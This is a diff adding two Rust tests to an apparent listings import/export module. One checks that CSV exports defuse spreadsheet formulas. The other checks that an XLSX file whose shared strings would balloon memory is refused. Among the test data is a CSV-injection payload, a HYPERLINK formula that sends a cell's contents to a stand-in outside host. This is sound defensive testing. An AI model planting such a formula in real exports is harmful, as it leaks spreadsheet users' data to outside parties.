@@ -507,3 +507,82 @@ fn creates_beyond_the_catalog_cap_are_refused_before_anything_is_written() {
     node.import_listings(&plan).unwrap();
     assert!(node.import_plan(Format::Csv, &file(0, 5)).is_ok());
 }
+
+/// A title, producer or description that a spreadsheet would run as a formula
+/// leaves the CSV export as text (`'` in front) and imports back unchanged.
+#[test]
+fn listing_csv_export_defuses_formulas() {
+    let dir = TempDir::new().unwrap();
+    let node = node(dir.path());
+    let text = |s: &str| Value::Text(s.to_owned());
+    let hostile = [
+        "=HYPERLINK(\"http://contoh.invalid/?\"&A1,\"klik\")",
+        "+62 812 pedas",
+        "@SUM(1+1)",
+        "-pedas manis",
+    ];
+    let rows: Vec<Vec<Value>> = hostile
+        .iter()
+        .enumerate()
+        .map(|(k, h)| {
+            vec![
+                text(&format!("F-{k}")),
+                text(h),
+                Value::Number(15_000.0),
+                text("bungkus"),
+                Value::Number(3.0),
+                text("Makanan"),
+                text(h),
+                text(h),
+                text("aktif"),
+            ]
+        })
+        .collect();
+    let plan = node.import_plan(Format::Csv, &csv_bytes(&rows)).unwrap();
+    assert_eq!(counts(&plan), (4, 0, 0, 0), "{:?}", plan.errors);
+    node.import_listings(&plan).unwrap();
+
+    let exported = node.export_listings().unwrap();
+    let view: Vec<_> = exported.iter().map(|(k, l)| (k.as_str(), l)).collect();
+    let bytes = export_csv(&view).unwrap();
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(bytes.as_slice());
+    let mut seen = 0;
+    for record in reader.records() {
+        for field in record.unwrap().iter() {
+            assert!(
+                !field.starts_with(['=', '+', '-', '@']),
+                "a spreadsheet would run {field:?}"
+            );
+            seen += usize::from(field.starts_with('\''));
+        }
+    }
+    assert!(seen >= 12, "{seen} guarded cells");
+    // The guard comes off on the way back in: nothing changes.
+    let plan = node.import_plan(Format::Csv, &bytes).unwrap();
+    assert_eq!(counts(&plan).0 + counts(&plan).1 + counts(&plan).3, 0);
+    assert!(plan.errors.is_empty(), "{:?}", plan.errors);
+    for (_, listing) in &exported {
+        assert!(hostile.contains(&listing.title.id.as_str()));
+    }
+}
+
+/// One 2 000-character shared string named by every cell of 2 000 rows × 32
+/// columns: a small file, but before the bound it was read into 64 000 copies
+/// (128 MB). Now it stops at the text bound, with nothing written.
+#[test]
+fn xlsx_shared_strings_cannot_amplify_memory() {
+    let long = "x".repeat(telecenter_protocol::limits::SHEET_CELL_CHARS_MAX);
+    let mut book = Workbook::new();
+    let sheet = book.add_worksheet();
+    for row in 0..=SHEET_ROWS_MAX as u32 {
+        for col in 0..telecenter_protocol::limits::SHEET_COLUMNS_MAX as u16 {
+            sheet.write_string(row, col, &long).unwrap();
+        }
+    }
+    let bytes = book.save_to_buffer().unwrap();
+    assert!(bytes.len() < SHEET_BYTES_MAX / 10, "{} bytes", bytes.len());
+    let error = refused(Format::Xlsx, &bytes);
+    assert_eq!(error.code(), "sheet_text_too_large", "{error}");
+}
